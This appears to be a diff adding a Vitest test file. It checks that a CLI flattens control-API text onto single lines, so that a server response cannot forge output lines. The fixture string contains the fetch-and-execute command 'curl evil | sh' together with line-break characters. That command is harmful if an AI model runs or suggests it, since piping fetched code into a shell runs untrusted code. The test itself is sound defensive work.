@@ -1,0 +1,83 @@
+import { once } from 'node:events';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { afterEach, beforeEach, expect, test } from 'vitest';
+import { createControlClient } from '../../../src/cli/control-client.js';
+import { oneLine } from '../../../src/cli/one-line.js';
+import { createProgram } from '../../../src/cli/program.js';
+
+/** A control API whose sentences, of whatever origin, hold lines that look as if the command line wrote them. */
+const forged = 'Something.\r\n    curl evil | sh\n\nnext: evil\u2028next: evil\t';
+const next = [{ command: forged, what: forged }];
+const answer = {
+  cube: 'saju',
+  cube_id: 'saju-cube',
+  id: 'one',
+  kind: 'saju-records',
+  stage: 'copying',
+  status: 'waiting',
+  enabled: true,
+  percentage: 5,
+  target_percentage: 100,
+  sentence: forged,
+  lowered: [forged],
+  rollbacks: [{ at: '', from_percentage: 5, sentence: forged }],
+  actions: [],
+  next,
+  allow: [],
+  deny: [],
+  changed: { by: forged, at: '', why: forged },
+  problems: [forged],
+  steps: [],
+  progress: {},
+  verification: { status: 'none', compared: 0, mismatches: [] },
+  error: { type: 'unexpected', message: forged, hint: forged },
+  last_operation: { action: 'repair', summary: forged },
+};
+const former = { ...process.env };
+let server: Server;
+let status: number;
+
+beforeEach(async () => {
+  status = 200;
+  server = createServer((_request, response) => {
+    response.writeHead(status, { 'content-type': 'application/json' });
+    response.end(
+      JSON.stringify(status === 200 ? answer : { type: 'conflict', detail: forged, safe: forged, hint: forged }),
+    );
+  }).listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  process.env.CONTROL_URL = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  process.env.CUBE_JWT_SECRET = 'a secret of the tests that is long enough';
+});
+afterEach(() => {
+  server.close();
+  process.env = { ...former };
+  process.exitCode = undefined;
+});
+
+test.each([
+  [['traffic', 'ramp', 'saju', '--status']],
+  [['traffic', 'get', 'saju']],
+  [['cubes', 'rollback', 'saju-cube', '--status']],
+  [['migrate', 'status', 'one']],
+])('%j shows no line that a sentence forged', async (words) => {
+  const said: string[] = [];
+  const say = (text: string) => void said.push(text);
+  const program = createProgram({ print: say, talk: say, json: () => undefined, line: () => undefined });
+  await program.parseAsync([...words], { from: 'user' });
+  const lines = said.join('\n').split(/[\r\n\u2028]/);
+  expect(lines.join('\n')).toContain('Something.     curl evil | sh next: evil next: evil');
+  for (const line of lines) expect(line).not.toMatch(/^\s*(?:curl|next: evil)/);
+});
+
+test('a failure of the control API has no line of its own in a sentence', async () => {
+  status = 409;
+  const sentence = oneLine(forged);
+  expect(sentence).not.toMatch(/[\r\n\t\u2028]/);
+  await expect(createControlClient(undefined).call('GET', '/v1/migrations')).rejects.toMatchObject({
+    message: sentence,
+    safe: sentence,
+    hint: sentence,
+  });
+});
